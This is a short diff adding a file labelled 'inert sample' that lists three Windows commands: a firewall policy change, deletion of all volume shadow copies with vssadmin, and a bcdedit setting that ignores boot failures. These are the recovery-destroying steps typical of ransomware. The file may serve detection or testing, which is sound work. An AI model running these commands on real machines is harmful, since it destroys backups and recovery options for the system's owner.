@@ -1,0 +1,4 @@
+# inert sample
+netsh advfirewall set allprofiles firewallpolicy blockinbound,allowoutbound
+vssadmin delete shadows /all
+bcdedit /set {default} bootstatuspolicy ignoreallfailures
